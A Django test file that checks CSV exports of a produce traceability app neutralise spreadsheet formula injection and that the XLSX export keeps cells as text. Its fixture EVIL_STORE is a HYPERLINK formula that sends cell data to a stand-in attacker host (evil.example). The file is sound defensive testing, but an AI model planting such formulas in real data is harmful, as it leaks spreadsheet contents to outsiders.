"""CSV exports neutralise spreadsheet formulas as OWASP recommends: a text cell beginning with
= + - @, a tab or a carriage return gets a leading apostrophe, so a store named
=HYPERLINK(...) opens as text. The XLSX export stays typed: its cells are text, never formulas."""

import csv
import io

import openpyxl
from django.test import TestCase

from shipments.recall_report import recall_report_csv
from tests.support import (
    make_batch,
    make_crop,
    make_delivered_shipment,
    make_farm,
    make_store,
    make_user,
    make_village,
)
from traceability import exports, services
from traceability.exports.csvsafe import neutralise
from traceability.models import TraceEvent

EVIL_STORE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EVIL_REASON = "@SUM(1+1)"


def cells(body: bytes) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row}


class NeutraliseTests(TestCase):
    def test_the_rule(self):
        self.assertEqual(
            [neutralise(v) for v in ["=1+2", "+A1", "-1+2", "@A1", "\tx", "\rx", "-3.5", "12", "text", 7, None]],
            ["'=1+2", "'+A1", "'-1+2", "'@A1", "'\tx", "'\rx", "-3.5", "12", "text", 7, None],
        )


class ExportTests(TestCase):
    def setUp(self):
        village = make_village()
        carol = make_user("carol", role="coordinator", village=village)
        self.batch = make_batch(make_farm(village), make_crop(), "XJ-WAX-20260612-001", status="packed")
        make_delivered_shipment(batches=[self.batch], store=make_store(name_zh=EVIL_STORE))
        self.recall = services.open_recall(batch=self.batch, reason=EVIL_REASON, actor=carol)
        self.events = TraceEvent.objects.all()

    def test_fsma_and_eu_csv_cells_are_neutralised(self):
        for body in (exports.fsma_csv(self.events), exports.eu_csv(self.events)):
            found = cells(body)
            self.assertFalse([cell for cell in found if cell and cell[0] in "=+-@\t\r"], found)
            self.assertTrue(any(cell.startswith("'=HYPERLINK(") for cell in found))

    def test_the_recall_record_and_the_recall_shipments_csv_are_neutralised(self):
        record = cells(exports.recall_csv(self.recall))
        self.assertIn("'" + EVIL_REASON, record)
        self.assertNotIn(EVIL_REASON, record)
        shipments = cells(recall_report_csv(self.recall))
        self.assertIn("'" + EVIL_STORE, shipments)
        self.assertNotIn(EVIL_STORE, shipments)

    def test_the_xlsx_export_keeps_the_text_as_it_is(self):
        sheet = openpyxl.load_workbook(io.BytesIO(exports.fsma_xlsx(self.events))).active
        values = {cell.value for row in sheet.iter_rows() for cell in row}
        self.assertTrue(any(isinstance(v, str) and v.startswith("=HYPERLINK(") for v in values))
        self.assertFalse(any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row))
